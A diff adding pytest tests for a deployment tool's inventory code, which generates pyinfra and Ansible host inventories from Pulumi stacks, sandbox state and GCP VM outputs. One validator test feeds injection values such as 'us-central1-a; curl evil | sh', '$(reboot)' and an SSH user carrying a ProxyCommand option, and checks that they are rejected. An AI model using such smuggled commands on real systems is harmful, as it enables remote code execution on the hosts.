@@ -1,0 +1,332 @@
+"""Inventories from the stack (cnctl/inventory.py, hosts/*.py, `cnctl inventory`): the right hosts, how to
+reach them, and the same cn_* values whichever engine reads them. Nothing here connects to a host:
+pyinfra's `debug-inventory` and `ansible-inventory --list` read the inventories as each engine does."""
+
+from __future__ import annotations
+
+import json
+import os
+import runpy
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from typer.testing import CliRunner
+
+from cnctl.cli.main import app
+from cnctl.config import load_stack
+from cnctl.inventory import (
+    InventoryProblem,
+    ansible_inventory,
+    chosen_stack,
+    cloud_hosts,
+    cloud_vms,
+    fleet_hosts,
+    pyinfra_groups,
+    ssh_config_text,
+    stack_outputs,
+)
+from cnctl.paths import REPO_ROOT
+from cnctl.sandbox.instance import Instance
+from cnctl.sandbox.layout import HostSpec
+from cnctl.sandbox.state import FleetState, HostState, save
+
+BIN = Path(sys.executable).parent
+OUTPUTS = Path(__file__).parent / "samples" / "dev-outputs.json"  # `pulumi stack output --json -s dev`, recorded
+IAP = "gcloud compute start-iap-tunnel {vm} 22 --listen-on-stdin --project=my-circularnet-dev --zone={zone} --verbosity=warning"
+
+
+@pytest.fixture(autouse=True)
+def _private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Generated ssh_configs and inventories go to a cache of the test's own."""
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    for name in ("CNCTL_STACK", "CNCTL_OUTPUTS", "CNCTL_SSH_USER"):
+        monkeypatch.delenv(name, raising=False)
+
+
+# --- which stack ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("argv", "env", "stack"),
+    [
+        ([], {}, "local"),
+        ([], {"CNCTL_STACK": "prod"}, "prod"),
+        (["hosts/edge.py", "deploy.py", "--data", "stack=dev"], {"CNCTL_STACK": "prod"}, "dev"),
+        (["--data=stack=dev", "hosts/edge.py", "deploy.py"], {}, "dev"),
+        (["--data", "other=1", "hosts/edge.py"], {}, "local"),
+    ],
+)
+def test_the_stack_comes_from_data_then_environment_then_local(argv: list[str], env: dict[str, str], stack: str) -> None:
+    assert chosen_stack(argv, env) == stack
+
+
+# --- fleets --------------------------------------------------------------------------------------
+
+
+def _cn(data: dict[str, Any]) -> dict[str, Any]:
+    return {k: v for k, v in data.items() if k.startswith("cn_")}
+
+
+def test_a_real_fleet_is_reached_at_its_entries_addresses() -> None:
+    cfg = load_stack("prod")
+    hosts = fleet_hosts(cfg)
+    assert [h.name for h in hosts] == [e.name for e in cfg.fleets.edge] + [s.name for s in cfg.fleets.servers]
+    groups = pyinfra_groups(hosts)
+    name, data = groups["edge"][0]
+    entry = cfg.fleets.edge[0]
+    assert (name, data["ssh_hostname"], data["ssh_user"]) == (entry.name, entry.address, entry.ssh_user)
+    assert data["cn_group"] == "edge" and data["cn_jetpack"] == entry.jetpack
+    assert "ssh_key" not in data  # the user's own SSH setup (agent, ~/.ssh/config) decides
+
+
+def test_an_ssh_port_other_than_22_reaches_both_engines(tmp_path: Path) -> None:
+    document = yaml.safe_load((REPO_ROOT / "stacks" / "Pulumi.prod.yaml").read_text())
+    document["config"]["circularnet:fleets"]["edge"][0]["sshPort"] = 2222
+    path = tmp_path / "Pulumi.prod.yaml"
+    path.write_text(yaml.safe_dump(document))
+    host = fleet_hosts(load_stack(str(path)))[0]
+    assert pyinfra_groups([host])["edge"][0][1]["ssh_port"] == 2222
+    assert ansible_inventory([host])["all"]["children"]["edge"]["hosts"][host.name]["ansible_port"] == 2222
+
+
+def test_both_engines_read_the_same_values_for_every_host(tmp_path: Path) -> None:
+    """pyinfra's own inventory loader (debug-inventory) and ansible-inventory --list, on the inventories of
+    `cnctl inventory`, give every host the same cn_* values."""
+    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", "CNCTL_STACK": "prod",
+           "ANSIBLE_HOME": str(tmp_path / "ansible"), "ANSIBLE_LOCAL_TEMP": str(tmp_path / "atmp")}
+    inv = tmp_path / "prod.yml"
+    assert CliRunner().invoke(app, ["inventory", "--stack", "prod", "--engine", "ansible", "--output", str(inv)]).exit_code == 0
+    listed = json.loads(subprocess.run([str(BIN / "ansible-inventory"), "-i", str(inv), "--list"], env=env, check=True,
+                                       capture_output=True, text=True, timeout=120).stdout)
+    ansible_vars = {name: _cn(hv) for name, hv in listed["_meta"]["hostvars"].items()}
+    pyinfra_vars = _pyinfra_debug_inventory("hosts/fleet.py", env)
+    cfg = load_stack("prod")
+    assert set(pyinfra_vars) == set(ansible_vars) == {h.name for h in [*cfg.fleets.edge, *cfg.fleets.servers]}
+    for name, values in pyinfra_vars.items():
+        assert values == ansible_vars[name], name
+        assert values["cn_host"] == name and values["cn_stack"] == "prod"
+    assert set(listed["edge"]["hosts"]) == {e.name for e in cfg.fleets.edge}
+
+
+def _pyinfra_debug_inventory(inventory: str, env: dict[str, str]) -> dict[str, dict[str, Any]]:
+    """`pyinfra <inventory> debug-inventory`: each host's data, as pyinfra loaded it (no connection)."""
+    run = subprocess.run([str(BIN / "pyinfra"), inventory, "debug-inventory"], cwd=REPO_ROOT, env=env, check=True,
+                         capture_output=True, text=True, timeout=120)
+    out = run.stdout + run.stderr  # pyinfra logs the hosts on stderr
+    hosts: dict[str, dict[str, Any]] = {}
+    for block in out.split("\n[")[1:]:
+        name = block.split("]", 1)[0]
+        data = block.split("--> Data:", 1)[1]
+        hosts[name] = _cn(json.loads(data[: data.rindex("}") + 1]))
+    return hosts
+
+
+def _sandbox_state(state_dir: Path, stack: str = "local") -> Instance:
+    """A state file of a sandbox that is up: the local stack's first Jetson plus a generated server."""
+    key = state_dir / "id_ed25519"
+    state_dir.mkdir(parents=True)
+    key.write_text("not a key\n")
+    hosts = [
+        HostState(HostSpec("belt-1-orin", "edge", "jetson", "172.31.9.11", site="sandbox", jetpack="6.0", l4t="36.3.0"), "n", "/m"),
+        HostState(HostSpec("server-9", "servers", "server", "172.31.9.29", driver_branch="570", generated=True), "n", "/m"),
+    ]
+    state = FleetState(prefix="cnut", state_dir=str(state_dir), stack=stack, subnet="172.31.9.0/24", machine_address="172.31.9.1",
+                       site_address="172.31.9.2", site_netns="cnut-site", uplink="cnut-up", images={"amd64": "/i"}, ssh_key=str(key),
+                       known_hosts=str(state_dir / "known_hosts"), phase="up", hosts=hosts,
+                       site={"apt_url": "http://172.31.9.2:8080/apt/", "apt_keyring": "/k.gpg"})
+    inst = Instance(prefix="cnut", state_dir=state_dir)
+    save(inst, state)
+    return inst
+
+
+def test_the_local_stack_reaches_the_running_sandbox_with_its_key_and_strict_checking(tmp_path: Path) -> None:
+    inst = _sandbox_state(tmp_path / "state")
+    hosts = fleet_hosts(load_stack("local"), inst=inst)
+    assert [(h.name, h.group, h.ssh.address) for h in hosts] == [
+        ("belt-1-orin", "edge", "172.31.9.11"), ("server-9", "servers", "172.31.9.29")]
+    groups = pyinfra_groups(hosts)
+    edge = groups["edge"][0][1]
+    assert edge["ssh_key"] == str(tmp_path / "state" / "id_ed25519")
+    assert edge["ssh_known_hosts_file"] == str(tmp_path / "state" / "known_hosts")
+    assert edge["ssh_strict_host_key_checking"] == "yes" and edge["ssh_allow_agent"] is False
+    assert edge["cn_stack"] == "local" and edge["cn_jetpack"] == "6.0" and edge["sandbox_site"]["apt_url"].startswith("http://")
+    # a host the sandbox generated beyond the stack's list gets the variables of its own platform
+    assert groups["servers"][0][1]["cn_driver_branch"] == "570"
+    args = ansible_inventory(hosts)["all"]["children"]["edge"]["hosts"]["belt-1-orin"]["ansible_ssh_common_args"]
+    assert "StrictHostKeyChecking=yes" in args and f"UserKnownHostsFile={tmp_path / 'state' / 'known_hosts'}" in args
+
+
+def test_a_sandbox_of_another_stack_is_refused(tmp_path: Path) -> None:
+    inst = _sandbox_state(tmp_path / "state", stack="other")
+    with pytest.raises(InventoryProblem, match="started from stack 'other', not 'local'"):
+        fleet_hosts(load_stack("local"), inst=inst)
+
+
+@pytest.mark.parametrize(
+    ("module", "env", "message"),
+    [
+        ("hosts/edge.py", {"CNCTL_STACK": "staging"}, "stack staging: stacks/Pulumi.staging.yaml: stack: 'staging' has no file"),
+        ("hosts/servers.py", {"CNCTL_STACK": "local"}, "stack local: the sandbox is not up"),
+        ("hosts/sandbox.py", {}, "run `cnctl sandbox up` or `make demo`"),
+        ("hosts/cloud.py", {"CNCTL_STACK": "dev", "CNCTL_OUTPUTS": "/nonexistent/outputs.json"}, "CNCTL_OUTPUTS=/nonexistent"),
+        ("hosts/cloud.py", {"CNCTL_STACK": "local"}, "stack local has no cloud GPU VMs"),
+    ],
+)
+def test_an_inventory_module_says_what_is_wrong_in_one_line_and_exits_2(
+    module: str, env: dict[str, str], message: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    monkeypatch.setenv("CNCTL_STATE", str(tmp_path / "none"))
+    for key, value in env.items():
+        monkeypatch.setenv(key, value)
+    monkeypatch.setattr(sys, "argv", ["pyinfra", module, "deploy.py"])
+    with pytest.raises(SystemExit) as raised:
+        runpy.run_path(str(REPO_ROOT / module))
+    assert raised.value.code == 2
+    err = capsys.readouterr().err
+    assert err.startswith("error: ") and err.count("\n") == 1 and message in err, err
+
+
+def test_an_invalid_stack_names_its_fields_in_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                      capsys: pytest.CaptureFixture[str]) -> None:
+    document = yaml.safe_load((REPO_ROOT / "stacks" / "Pulumi.prod.yaml").read_text())
+    document["config"]["circularnet:fleets"]["edge"][0]["jetpack"] = "4.6"
+    document["config"]["circularnet:fleets"]["servers"] = [{"name": "Bad Name", "address": "10.0.0.1"}]
+    path = tmp_path / "Pulumi.prod.yaml"
+    path.write_text(yaml.safe_dump(document))
+    monkeypatch.setattr(sys, "argv", ["pyinfra", "hosts/edge.py", "deploy.py", "--data", f"stack={path}"])
+    with pytest.raises(SystemExit) as raised:
+        runpy.run_path(str(REPO_ROOT / "hosts" / "edge.py"))
+    err = capsys.readouterr().err
+    assert raised.value.code == 2 and err.count("\n") == 1
+    assert "fleets.servers[0].name" in err
+
+
+# --- cloud VMs -----------------------------------------------------------------------------------
+
+
+def test_the_recorded_outputs_give_the_vms_their_users_and_iap_proxy_commands(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CNCTL_OUTPUTS", str(OUTPUTS))
+    monkeypatch.setenv("CNCTL_SSH_USER", "deploy_example_com")
+    cfg = load_stack("dev")
+    outputs, source = stack_outputs("dev")
+    hosts = cloud_hosts(cfg, cloud_vms(cfg, outputs, source))
+    assert [(h.name, h.group, h.ssh.user) for h in hosts] == [
+        ("cn-dev-gpu-0-81b5", "cloud", "deploy_example_com"), ("cn-dev-gpu-1-81b5", "cloud", "deploy_example_com")]
+    assert [h.ssh.proxy_command for h in hosts] == [
+        IAP.format(vm="cn-dev-gpu-0-81b5", zone="us-central1-a"), IAP.format(vm="cn-dev-gpu-1-81b5", zone="us-central1-b")]
+    assert hosts[1].vars["cn_gcp_zone"] == "us-central1-b" and hosts[1].vars["cn_driver_source"] == "image"
+    # pyinfra: an ssh_config block per VM; Ansible: the same ProxyCommand in ansible_ssh_common_args
+    config = ssh_config_text(hosts)
+    assert f"Host cn-dev-gpu-0-81b5\n  HostName cn-dev-gpu-0-81b5\n  User deploy_example_com\n  ProxyCommand " \
+           f"{IAP.format(vm='cn-dev-gpu-0-81b5', zone='us-central1-a')}\n" in config
+    vm = ansible_inventory(hosts)["all"]["children"]["cloud"]["hosts"]["cn-dev-gpu-1-81b5"]
+    assert vm["ansible_user"] == "deploy_example_com"
+    assert vm["ansible_ssh_common_args"] == f'-o ProxyCommand="{IAP.format(vm="cn-dev-gpu-1-81b5", zone="us-central1-b")}"'
+
+
+def test_hosts_cloud_py_as_pyinfra_loads_it(tmp_path: Path) -> None:
+    env = {**os.environ, "CNCTL_STACK": "dev", "CNCTL_OUTPUTS": str(OUTPUTS), "CNCTL_SSH_USER": "deploy_example_com"}
+    run = subprocess.run([str(BIN / "pyinfra"), "hosts/cloud.py", "debug-inventory"], cwd=REPO_ROOT, env=env, check=True,
+                         capture_output=True, text=True, timeout=120)
+    out = run.stdout + run.stderr
+    config = tmp_path / "cache" / "cnctl" / "ssh" / "dev.config"
+    assert f'"ssh_config_file": "{config}"' in out and "--> Groups: cloud" in out
+    assert config.stat().st_mode & 0o077 == 0
+    assert IAP.format(vm="cn-dev-gpu-1-81b5", zone="us-central1-b") in config.read_text()
+
+
+def test_an_ssh_user_output_wins_over_the_environment() -> None:
+    outputs = {**json.loads(OUTPUTS.read_text()), "sshUser": "sa_1234567890"}
+    vms = cloud_vms(load_stack("dev"), outputs, "test", environ={"CNCTL_SSH_USER": "someone"})
+    assert {vm.ssh_user for vm in vms} == {"sa_1234567890"}
+
+
+def test_without_any_os_login_user_the_fix_is_named() -> None:
+    with pytest.raises(InventoryProblem, match="CNCTL_SSH_USER=\\$\\(gcloud compute os-login describe-profile"):
+        cloud_vms(load_stack("dev"), json.loads(OUTPUTS.read_text()), "test", environ={}, os_login_user=lambda: None)
+
+
+def _bad(change: dict[str, Any] | None = None, vm: dict[str, Any] | None = None) -> dict[str, Any]:
+    outputs = json.loads(OUTPUTS.read_text())
+    outputs["vms"][0].update(vm or {})
+    outputs.update(change or {})
+    return outputs
+
+
+@pytest.mark.parametrize(
+    ("outputs", "message"),
+    [
+        (_bad({"project": "someone-else-123"}), "the outputs are of project someone-else-123, but stack dev deploys to my-circularnet-dev"),
+        (_bad({"vms": None}), "output vms is missing or not a list"),
+        (_bad(vm={"zone": "us-central1-a; curl evil | sh"}), "output vms[0].zone: 'us-central1-a; curl evil | sh' is not a GCP zone"),
+        (_bad(vm={"name": "$(reboot)"}), "output vms[0].name: '$(reboot)' is not a VM name"),
+        (_bad(vm={"internalIp": None}), "output vms[0].internalIp: None is not an IPv4 address"),
+        (_bad(vm={"sshUser": "root -o ProxyCommand=x"}), "output vms[0].sshUser"),
+        (_bad({"project": None}), "output project: None is not a GCP project id"),
+    ],
+)
+def test_bad_outputs_are_named_at_the_output(outputs: dict[str, Any], message: str) -> None:
+    with pytest.raises(InventoryProblem) as raised:
+        cloud_vms(load_stack("dev"), outputs, "CNCTL_OUTPUTS=x.json", environ={"CNCTL_SSH_USER": "u"})
+    assert message in str(raised.value)
+
+
+def test_an_outputs_file_that_is_not_json_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    bad = tmp_path / "outputs.json"
+    bad.write_text("Current stack outputs (3):\n")
+    monkeypatch.setenv("CNCTL_OUTPUTS", str(bad))
+    with pytest.raises(InventoryProblem, match="not JSON .*`pulumi stack output --json -s dev > "):
+        stack_outputs("dev")
+
+
+def test_without_pulumi_or_an_outputs_file_the_fix_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PATH", "/nonexistent")
+    with pytest.raises(InventoryProblem, match="pulumi CLI is not on PATH.*CNCTL_OUTPUTS=outputs.json"):
+        stack_outputs("dev")
+
+
+# --- cnctl inventory -------------------------------------------------------------------------------
+
+
+def test_cnctl_inventory_writes_a_pyinfra_module_with_the_same_hosts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CNCTL_OUTPUTS", str(OUTPUTS))
+    monkeypatch.setenv("CNCTL_SSH_USER", "deploy_example_com")
+    out = tmp_path / "dev_inventory.py"
+    result = CliRunner().invoke(app, ["inventory", "--stack", "dev", "--engine", "pyinfra", "-g", "edge", "-g", "cloud",
+                                      "--output", str(out)])
+    assert result.exit_code == 0, result.output
+    module = runpy.run_path(str(out))
+    assert [name for name, _ in module["edge"]] == ["belt-1-orin"]
+    assert [name for name, _ in module["cloud"]] == ["cn-dev-gpu-0-81b5", "cn-dev-gpu-1-81b5"]
+    assert "servers" not in module
+    config = Path(module["cloud"][0][1]["ssh_config_file"])
+    assert config == out.with_name("dev_inventory.py.ssh_config").resolve() and "ProxyCommand gcloud" in config.read_text()
+
+
+def test_cnctl_inventory_prints_ansible_yaml_by_default() -> None:
+    result = CliRunner().invoke(app, ["inventory", "--stack", "prod"])
+    assert result.exit_code == 0, result.output
+    inventory = yaml.safe_load(result.stdout)
+    hosts = inventory["all"]["children"]["edge"]["hosts"]
+    assert hosts["plant-a-belt-1"]["ansible_host"] == "10.40.1.21" and hosts["plant-a-belt-1"]["cn_jetpack"] == "6.2"
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (["--engine", "chef"], "--engine chef: unknown engine; known: pyinfra, ansible"),
+        (["--group", "gpus"], "--group gpus: unknown group; known: edge, servers, cloud"),
+        (["--stack", "staging"], "has no file stacks/Pulumi.staging.yaml"),
+        (["--stack", "dev", "--group", "cloud"], "the pulumi CLI is not on PATH"),
+    ],
+)
+def test_cnctl_inventory_refuses_bad_input_with_exit_2(args: list[str], message: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PATH", str(BIN))  # no pulumi here
+    result = CliRunner().invoke(app, ["inventory", *args])
+    assert result.exit_code == 2 and "Traceback" not in result.output
+    assert message in " ".join(result.output.split())
